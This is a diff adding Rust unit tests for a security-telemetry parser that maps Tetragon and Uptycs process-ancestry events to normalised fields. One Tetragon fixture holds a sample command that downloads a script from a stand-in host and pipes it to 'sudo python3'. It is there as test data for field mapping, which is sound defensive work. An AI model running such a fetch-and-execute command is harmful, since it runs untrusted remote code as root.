@@ -6485,5 +6485,20 @@ mod tests {
         let a = from_json(cs, "x").unwrap();
         assert_eq!(get(&a, "destination.ip"), "10.20.0.40");
         assert_eq!(a.doc["destination"]["port"], json!(443));
+        // Tetragon: the first ancestor's command (the pipeline feeding the process).
+        let tg = json!({"process_exec": {"process": {"binary": "/usr/bin/python3.10", "arguments": "", "uid": 0, "pid": 9},
+            "parent": {"binary": "/usr/bin/sudo", "arguments": "python3"},
+            "ancestors": [{"binary": "/usr/bin/bash", "arguments": "-c \"curl -sSf https://x.example/m.py | sudo python3\""}]}});
+        let a = from_json(tg, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.parent.parent.command_line"),
+            "/usr/bin/bash -c \"curl -sSf https://x.example/m.py | sudo python3\""
+        );
+        // Uptycs: the oldest ancestor below launchd is the session's entry.
+        let up = json!({"id": "u3", "assetId": "a", "hostName": "mbp-1", "metadata": {"path": "/usr/bin/osascript", "cmdline": "osascript -e x",
+            "ancestor_list": [{"path": "/usr/bin/sudo"}, {"path": "/bin/launchctl"}, {"path": "/bin/bash", "cmdline": "/bin/bash /Library/Application Support/JAMF/tmp/p"},
+                {"path": "/usr/local/jamf/bin/jamf", "cmdline": "/usr/local/jamf/bin/jamf policy"}, {"path": "/sbin/launchd"}]}});
+        let a = from_json(up, "x").unwrap();
+        assert_eq!(get(&a, "process.entry_leader.name"), "jamf");
     }
 }
